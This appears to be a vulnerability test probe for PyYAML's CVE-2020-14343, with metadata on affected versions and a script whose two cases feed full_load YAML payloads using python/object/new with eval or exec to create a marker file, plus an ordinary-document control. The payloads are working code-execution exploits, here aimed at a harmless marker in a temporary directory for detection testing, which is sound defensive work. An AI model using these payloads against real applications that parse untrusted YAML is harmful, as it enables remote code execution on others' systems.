# /// vertice-probe
# id = "PYSEC-2021-142"
# aliases = ["CVE-2020-14343", "GHSA-8q59-q68h-6hv4"]
# package = "pyyaml"
# summary = "FullLoader and load() build any Python object that untrusted YAML names, which runs the sender's code."
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-20", "CWE-502"]
# kind = "rce"
# symbols = ["yaml.load", "yaml.load_all", "yaml.full_load", "yaml.full_load_all", "yaml.FullLoader"]
#
# [[affected]]
# package = "pyyaml"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "5.4" }] }]
#
# [cases]
# attack = "full_load of a tuple of map(eval, …) writes a marker file"
# [cases.variants]
# setstate = "the same effect through the extend method of python/object/new"
# [cases.controls]
# mapping = "full_load of an ordinary order document gives the ordinary values"
#
# [test]
# vulnerable = "5.3.1"
# fixed = "5.4"
# build-constraints = ["cython<3"]
# ///
"""CVE-2020-14343: YAML tags that make full_load call Python functions."""

import json
import os
import sys
import tempfile

MARKER = os.path.join(tempfile.mkdtemp(), "marker")


def load_and_look(document):
    import yaml

    try:
        yaml.full_load(document)
    except yaml.constructor.ConstructorError as error:
        refusal = str(error).splitlines()[-2 if len(str(error).splitlines()) > 1 else 0]
    else:
        refusal = "loaded without calling anything"
    if os.path.exists(MARKER):
        return "exploited", "code in the document created the marker file"
    return "blocked", refusal


def attack():
    code = "open(%r, 'w').close()" % MARKER
    return load_and_look(
        '!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [ "%s" ]\n' % code
    )


def setstate():
    code = "open(%r, 'w').close()" % MARKER
    return load_and_look(
        "!!python/object/new:type\n"
        "args: ['z', !!python/tuple [], {'extend': !!python/name:exec }]\n"
        'listitems: "%s"\n' % code
    )


def mapping():
    import yaml

    got = yaml.full_load("order: 7\nitems:\n  - {sku: A-1, price: 9.5}\npaid: true\n")
    wanted = {"order": 7, "items": [{"sku": "A-1", "price": 9.5}], "paid": True}
    return ("works", "parsed as written") if got == wanted else ("broken", repr(got))


CASES = {"attack": attack, "setstate": setstate, "mapping": mapping}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
